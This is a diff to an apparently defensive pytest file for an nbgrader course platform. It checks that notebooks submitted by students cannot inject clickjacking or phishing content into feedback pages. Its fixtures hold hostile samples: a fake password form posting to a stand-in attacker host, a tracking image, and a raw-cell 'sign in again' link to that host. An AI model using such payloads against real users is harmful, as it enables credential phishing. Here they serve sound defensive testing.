@@ -19,7 +19,7 @@ import time
 
 import nbformat
 import pytest
-from nbformat.v4 import new_code_cell, new_markdown_cell
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
 from nbgrader.api import Gradebook
 
 from course import classroom, settings
@@ -58,6 +58,7 @@ REDRESS_MARKDOWN = f"""## Redress
 <form action="{EVIL}/steal"><input type="password" name="password"><button>Log in</button></form>
 <img src="{EVIL}/tag.png">
 """
+RAW_LINK = f'<a href="{EVIL}/login?next=feedback">Your grade could not be shown: sign in again</a>'
 PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
 REDRESS_OUTPUTS = f'''
 from IPython.display import HTML, Markdown, display
@@ -83,6 +84,8 @@ def graded(course_folder):
     notebook.cells.insert(imports + 2, new_code_cell(OUTPUTS.strip()))
     notebook.cells.insert(imports + 3, new_markdown_cell(REDRESS_MARKDOWN))
     notebook.cells.insert(imports + 4, new_code_cell(REDRESS_OUTPUTS.strip()))
+    for raw_mimetype in ("text/html", ""):  # written into the page outside every cell, where no mark reached
+        notebook.cells.insert(imports + 5, new_raw_cell(RAW_LINK, metadata={"raw_mimetype": raw_mimetype}))
     classroom.submit(root, ASSIGNMENT, ATTACKER, notebook)
     classroom.nbgrader(root, "autograde", ASSIGNMENT)
     classroom.nbgrader(root, "generate_feedback", ASSIGNMENT, "--RequireHandGrading.allow_ungraded=True")
@@ -137,6 +140,8 @@ def assert_not_redressed(page, tried: list):
     for href, mark in links:
         assert href.startswith(("http:", "https:", "mailto:")), href
         assert "学生提供的链接" in mark and href in mark, (href, mark)
+    assert page.locator('a:has-text("sign in again")').count() == 0  # a raw cell's: shown as its text
+    assert page.locator('.rendered_html pre:has-text("sign in again")').count() == 2
     policy = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
     assert "base-uri 'none'" in policy and re.search(r"form-action '(self|none)'", policy), policy
 
